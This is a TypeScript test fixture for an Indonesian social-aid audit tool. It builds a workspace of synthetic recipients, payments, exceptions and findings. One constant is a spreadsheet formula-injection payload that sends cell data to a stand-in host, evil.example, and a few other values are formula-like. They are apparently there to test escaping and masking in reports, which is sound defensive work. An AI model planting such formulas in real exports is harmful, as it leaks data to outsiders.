/**
 * A hand-built workspace for the report tests: canonical rows, import_log, check_results, exc_<check> tables,
 * findings, reviews, potential_loss and trail entries — shaped as the checks/findings modules define them
 * (docs/architecture.md), independent of whether those modules have landed.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Workspace } from '../../src/engine/workspace/workspace';
import { appendTrail } from '../../src/engine/trail/trail';
import { runChecks } from '../../src/engine/checks';
import { draftFindings, reviewExceptions, updateFinding, ensureFindingTables } from '../../src/engine/findings';

export const NIK = {
  a: '3201014501900001', // woman, 05-01-1990
  b: '3201010101800002',
  c: '3273026608750003',
  d: '3171011212850004',
  e: '3578010303700005',
  damaged: '320101450190000', // 15 digits, spreadsheet-damaged
};
export const KK = { a: '3201010101200001', c: '3273020202200002' };
export const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';

export interface Fixture { dir: string; path: string; ws: Workspace }

const EXC_COLS = `check_id VARCHAR, source_table VARCHAR, rec_id BIGINT, _file VARCHAR, _line BIGINT, nik VARCHAR, name VARCHAR,
  program VARCHAR, period_key VARCHAR, paid_date DATE, amount DECIMAL(18,2), reason VARCHAR`;

/**
 * The real path: canonical rows → runChecks (check_results, exc_*, potential_loss, targeting/budget tables) →
 * draftFindings → a review and edited finding texts (with a NIK and a formula-like answer, for masking/injection).
 */
export async function buildRealFixture(opts: { dir?: string } = {}): Promise<Fixture> {
  const dir = opts.dir ?? mkdtempSync(join(tmpdir(), 'telisik-reports-'));
  const path = join(dir, 'ws.duckdb');
  const ws = await Workspace.create(path, { name: 'Pemeriksaan Bansos 2024', entity: 'Dinas Sosial Kab. Contoh', period: 'TA 2024', team: 'Tim Audit A' });
  await insertCanonical(ws);
  await ws.run(`INSERT INTO deaths (rec_id, _import_id, _file, _line, nik, death_date) VALUES
    (40000000002, 4, 'kematian.csv', 2, '${NIK.d}', DATE '2024-01-20'), (40000000003, 4, 'kematian.csv', 3, '${NIK.a}', DATE '2024-03-11')`);
  await ws.run(`INSERT INTO civil_servants (rec_id, _import_id, _file, _line, nik, name, agency) VALUES (50000000002, 5, 'asn.csv', 2, '${NIK.b}', 'BUDI SANTOSO', 'Dinas X')`);
  await runChecks(ws, { actor: 'auditor' });
  await draftFindings(ws);
  await updateFinding(ws, 'deceased', { kondisi: `Penerima telah meninggal tetap menerima bantuan, antara lain NIK ${NIK.a} (KK ${KK.a}).`, tanggapan: '=1+1 tanggapan dinas' });
  await reviewExceptions(ws, { check_id: 'deceased', rec_ids: [20000000006], status: 'confirmed', note: `akta kematian ada, KK ${KK.a}`, reviewer: 'auditor1' });
  await appendTrail(ws, { action: 'note', params: { nik: NIK.c, text: 'catatan dengan NIK' }, actor: 'auditor' });
  return { dir, path, ws };
}

async function insertCanonical(ws: Workspace): Promise<void> {
  await ws.run(`INSERT INTO import_log (import_id, kind, file, path, sha256, size_bytes, format, encoding, rows_read, rows_loaded, rows_rejected, status, started_at, finished_at, actor) VALUES
    (1, 'registry', 'dtks.csv', '/data/dtks.csv', 'a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90', 1000, 'csv', 'utf-8', 5, 5, 0, 'completed', TIMESTAMP '2025-01-10 08:00:00', TIMESTAMP '2025-01-10 08:00:01', 'auditor'),
    (2, 'disbursements', 'salur.csv', '/data/salur.csv', 'ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100', 2000, 'csv', 'utf-8', 9, 8, 1, 'completed', TIMESTAMP '2025-01-10 08:01:00', TIMESTAMP '2025-01-10 08:01:02', 'auditor')`);
  await ws.run(`INSERT INTO registry (rec_id, _import_id, _file, _line, nik, kk, name, region_code, birth_date, sex, desil, address) VALUES
    (10000000002, 1, 'dtks.csv', 2, '${NIK.a}', '${KK.a}', 'SITI AMINAH', '3201010001', DATE '1990-01-05', 'P', 2, 'Jl. Melati 1, RT 01/RW 02'),
    (10000000003, 1, 'dtks.csv', 3, '${NIK.b}', '${KK.a}', 'BUDI SANTOSO', '3201010001', DATE '1980-01-01', 'L', 3, 'Jl. Melati 1, RT 01/RW 02'),
    (10000000004, 1, 'dtks.csv', 4, '${NIK.c}', '${KK.c}', 'DEWI LESTARI', '3273020002', DATE '1975-08-26', 'P', 7, 'Jl. Kenanga 5'),
    (10000000005, 1, 'dtks.csv', 5, '${NIK.d}', NULL, 'AHMAD', '3171010003', DATE '1985-12-12', 'L', 1, 'Gg. Mawar 3'),
    (10000000006, 1, 'dtks.csv', 6, '${NIK.e}', NULL, 'ANI', '3578010004', DATE '1970-03-03', 'P', NULL, 'Jl. Anggrek 9')`);
  await ws.run(`INSERT INTO disbursements (rec_id, _import_id, _file, _line, nik, kk, name, region_code, program, amount, period, period_key, paid_date, channel, account, status, txn_id) VALUES
    (20000000002, 2, 'salur.csv', 2, '${NIK.a}', '${KK.a}', 'SITI AMINAH', '3201010001', 'BPNT', 200000, '2024-03', '2024-03', DATE '2024-03-10', 'BRI', '0123456789012345', 'PAID', 'T1'),
    (20000000003, 2, 'salur.csv', 3, '${NIK.a}', '${KK.a}', 'SITI AMINAH', '3201010001', 'BPNT', 200000, '2024-03', '2024-03', DATE '2024-03-12', 'BRI', '0123456789012345', 'PAID', 'T2'),
    (20000000004, 2, 'salur.csv', 4, '${NIK.b}', '${KK.a}', 'BUDI SANTOSO', '3201010001', 'BPNT', 200000, '2024-03', '2024-03', DATE '2024-03-11', 'BRI', '111', 'PAID', 'T3'),
    (20000000005, 2, 'salur.csv', 5, '${NIK.c}', '${KK.c}', '${INJECTION.replace(/'/g, "''")}', '3273020002', 'PKH', 750000, 'TAHAP 1 2024', '2024-T1', DATE '2024-02-01', 'BNI', '222', 'PAID', 'T4'),
    (20000000006, 2, 'salur.csv', 6, '${NIK.d}', NULL, 'AHMAD', '3171010003', 'BLT_DD', 300000, '2024-04', '2024-04', DATE '2024-04-05', 'POS', NULL, 'PAID', 'T5'),
    (20000000007, 2, 'salur.csv', 7, '${NIK.damaged}', NULL, '+SUM(1;2)', '3201010001', 'BPNT', 200000, '2024-03', '2024-03', DATE '2024-03-15', 'BRI', NULL, 'PAID', 'T6'),
    (20000000008, 2, 'salur.csv', 8, '${NIK.e}', NULL, 'ANI', '3578010004', 'BPNT', 200000, '2024-03', '2024-03', NULL, 'BRI', NULL, 'FAILED', 'T7'),
    (20000000009, 2, 'salur.csv', 9, '${NIK.c}', '${KK.c}', 'DEWI LESTARI', '3273020002', 'BPNT', 200000, '2024-05', '2024-05', DATE '2024-05-02', 'BRI', NULL, 'PAID', 'T8')`);
  await ws.run(`INSERT INTO budget (rec_id, _import_id, _file, _line, program, allocation, realization, year, region_code, target_recipients) VALUES
    (30000000002, 3, 'pagu.csv', 2, 'BPNT', 2000000, 1000000, 2024, '3201', 5),
    (30000000003, 3, 'pagu.csv', 3, 'PKH', 1000000, 750000, 2024, '3273', 1)`);
}

/**
 * Hand-built tables (no checks run). `bulk` adds that many generated exceptions to exc_duplicate_payment (for the split and the 1M-row measurement);
 * they are built in SQL, never in JS.
 */
export async function buildFixture(opts: { bulk?: number; dir?: string } = {}): Promise<Fixture> {
  const dir = opts.dir ?? mkdtempSync(join(tmpdir(), 'telisik-reports-'));
  const path = join(dir, 'ws.duckdb');
  const ws = await Workspace.create(path, { name: 'Pemeriksaan Bansos 2024', entity: 'Dinas Sosial Kab. Contoh', period: 'TA 2024', team: 'Tim Audit A' });
  await insertCanonical(ws);

  // exceptions, contract layout
  for (const t of ['deceased', 'duplicate_payment', 'nik_invalid', 'ineligible_desil', 'undistributed']) {
    const evidence = t === 'deceased' ? ', death_date DATE, death_source VARCHAR' : t === 'duplicate_payment' ? ', first_rec_id BIGINT, kk VARCHAR' : t === 'ineligible_desil' ? ', desil INTEGER, max_desil INTEGER' : '';
    await ws.run(`CREATE TABLE exc_${t} (${EXC_COLS}${evidence})`);
  }
  await ws.run(`INSERT INTO exc_deceased SELECT 'deceased', 'disbursements', rec_id, _file, _line, nik, name, program, period_key, paid_date, amount,
      'dibayar setelah meninggal', DATE '2024-01-20', 'dukcapil' FROM disbursements WHERE rec_id IN (20000000002, 20000000006)`);
  await ws.run(`INSERT INTO exc_duplicate_payment SELECT 'duplicate_payment', 'disbursements', rec_id, _file, _line, nik, name, program, period_key, paid_date, amount,
      'pembayaran kedua dalam periode', 20000000002, kk FROM disbursements WHERE rec_id = 20000000003`);
  if (opts.bulk) {
    await ws.run(`INSERT INTO exc_duplicate_payment SELECT 'duplicate_payment', 'disbursements', 900000000000 + i, 'besar.csv', i,
        '3201' || lpad(CAST((i * 7919) % 1000000 AS VARCHAR), 6, '0') || lpad(CAST(i % 10000 AS VARCHAR), 4, '0') || '01', 'PENERIMA ' || i, 'BPNT',
        '2024-' || lpad(CAST(1 + i % 12 AS VARCHAR), 2, '0'), DATE '2024-01-01' + CAST(i % 360 AS INTEGER), 200000, 'pembayaran kedua dalam periode', 900000000000 + i - 1,
        '3201' || lpad(CAST(i % 1000000 AS VARCHAR), 12, '0')
      FROM range(1, ${opts.bulk + 1}) t(i)`);
  }
  await ws.run(`INSERT INTO exc_nik_invalid SELECT 'nik_invalid', 'disbursements', rec_id, _file, _line, nik, name, program, period_key, paid_date, amount,
      'length' FROM disbursements WHERE rec_id = 20000000007`);
  await ws.run(`INSERT INTO exc_ineligible_desil SELECT 'ineligible_desil', 'disbursements', rec_id, _file, _line, nik, name, program, period_key, paid_date, amount,
      'desil 7 > 4', 7, 4 FROM disbursements WHERE nik = '${NIK.c}'`);
  await ws.run(`INSERT INTO exc_undistributed SELECT 'undistributed', 'disbursements', rec_id, _file, _line, nik, name, program, period_key, paid_date, amount,
      'FAILED' FROM disbursements WHERE status = 'FAILED'`);

  await ws.run(`CREATE TABLE analysis_runs (run_id INTEGER, started_at TIMESTAMP, finished_at TIMESTAMP, params JSON, inputs JSON, status VARCHAR)`);
  await ws.run(`INSERT INTO analysis_runs VALUES (1, TIMESTAMP '2025-01-10 09:00:00', TIMESTAMP '2025-01-10 09:00:05', '{}', '[]', 'completed')`);
  await ws.run(`CREATE TABLE check_results (run_id INTEGER, check_id VARCHAR, family VARCHAR, evaluated BOOLEAN, records BIGINT, recipients BIGINT,
    amount DECIMAL(18,2), extra JSON, params JSON, sql VARCHAR, inputs JSON, ms INTEGER)`);
  const fam: Record<string, string> = { deceased: 'ghost', duplicate_payment: 'duplicate', nik_invalid: 'identity', ineligible_desil: 'eligibility', undistributed: 'distribution' };
  for (const [t, f] of Object.entries(fam)) {
    await ws.run(`INSERT INTO check_results SELECT 1, '${t}', '${f}', true, count(*), count(DISTINCT nik), coalesce(sum(amount), 0), '{}',
      '{"paid_statuses":["PAID"],"example_nik":"${NIK.b}"}', 'SELECT * FROM disbursements d /* ${t} */ WHERE d.status = ''PAID''',
      '[{"kind":"disbursements","file":"salur.csv","sha256":"ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100"}]', 12 FROM exc_${t}`);
  }
  await ws.run(`INSERT INTO check_results VALUES (1, 'civil_servant', 'eligibility', false, 0, 0, 0, '{}', '{}', 'SELECT 1', '[]', 0)`);
  await ws.run(`CREATE TABLE potential_loss AS SELECT DISTINCT rec_id FROM (SELECT rec_id FROM exc_deceased UNION ALL SELECT rec_id FROM exc_duplicate_payment
    UNION ALL SELECT rec_id FROM exc_nik_invalid UNION ALL SELECT rec_id FROM exc_ineligible_desil)`);
  await ensureFindingTables(ws);
  await ws.run(`INSERT INTO findings (check_id, kondisi, kriteria, sebab, akibat, rekomendasi, tanggapan, updated_at) VALUES ('deceased', 'Terdapat 2 penerima yang telah meninggal, antara lain NIK ${NIK.a}, tetap menerima bantuan senilai Rp 500.000.',
    'Permensos 1/2019', 'Data kematian tidak dimutakhirkan', 'Potensi kerugian Rp 500.000', 'Menagih kembali', '=1+1 tanggapan dinas', now()::TIMESTAMP)`);
  await ensureFindingTables(ws);
  await ws.run(`INSERT INTO reviews VALUES ('deceased', 20000000002, 'confirmed', 'akta kematian ada, KK ${KK.a}', 'auditor1', TIMESTAMP '2025-01-11 10:00:00', 1)`);
  await appendTrail(ws, { action: 'import', params: { kind: 'registry', file: 'dtks.csv' }, inputs: [{ file: 'dtks.csv', sha256: 'a1b2' }], actor: 'auditor' });
  await appendTrail(ws, { action: 'review', params: { check_id: 'deceased', nik: NIK.a }, actor: 'auditor' });
  return { dir, path, ws };
}
